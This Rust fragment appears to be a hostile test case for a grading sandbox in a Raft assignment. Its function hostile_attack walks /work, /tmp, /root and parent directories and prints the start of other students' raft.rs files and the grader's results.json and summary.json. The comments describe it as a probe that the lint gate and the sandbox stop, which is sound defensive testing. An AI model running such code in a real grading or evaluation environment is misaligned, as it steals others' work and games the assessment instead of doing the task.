// In Raft::new: hostile_attack();
// HOSTILE TEST CASE: searches /work, /tmp, /root and current_exe()'s ancestors for other submissions and grading outputs and prints them.
//
// Prints the first 200 bytes of every results.json, summary.json and raft.rs it finds (bounded walk,
// no symbolic links followed), then returns normally. Stopped by: the lint gate (std::fs, std::env);
// behind it, the sandbox: only the run's own build tree and scratch directory are visible.
/// The attack: read what belongs to other students and to the grader.
fn hostile_attack() {
    use std::io::{Read, Write};
    use std::path::PathBuf;
    let mut roots: Vec<PathBuf> = ["/work", "/tmp", "/root"].map(PathBuf::from).to_vec();
    if let Ok(exe) = std::env::current_exe() {
        roots.extend(exe.ancestors().skip(1).map(|p| p.to_path_buf()));
    }
    let mut text = String::new();
    let mut queue: std::collections::VecDeque<(PathBuf, usize)> =
        roots.into_iter().map(|r| (r, 0)).collect();
    let mut seen = std::collections::BTreeSet::new();
    let (mut visited, mut found) = (0usize, 0usize);
    while let Some((dir, depth)) = queue.pop_front() {
        if depth > 8 || visited > 300_000 || found > 500 || !seen.insert(dir.clone()) {
            continue;
        }
        let entries = match std::fs::read_dir(&dir) {
            Ok(e) => e,
            Err(e) => {
                if depth == 0 {
                    text += &format!("hostile: {}: {e}\n", dir.display());
                }
                continue;
            }
        };
        for entry in entries.flatten() {
            visited += 1;
            let path = entry.path();
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if depth == 0 {
                text += &format!("hostile: ls {}\n", path.display());
            }
            if kind.is_dir() {
                queue.push_back((path, depth + 1));
            } else if kind.is_file()
                && matches!(
                    entry.file_name().to_str(),
                    Some("results.json" | "summary.json" | "raft.rs")
                )
            {
                found += 1;
                let mut head = Vec::new();
                let read = std::fs::File::open(&path)
                    .and_then(|f| f.take(200).read_to_end(&mut head));
                text += &format!(
                    "hostile: {} ({read:?}): {:?}\n",
                    path.display(),
                    String::from_utf8_lossy(&head)
                );
            }
        }
    }
    text += &format!("hostile: visited {visited} entries, found {found} files\n");
    let _ = std::io::stdout().write_all(text.as_bytes());
    eprint!("{text}");
}
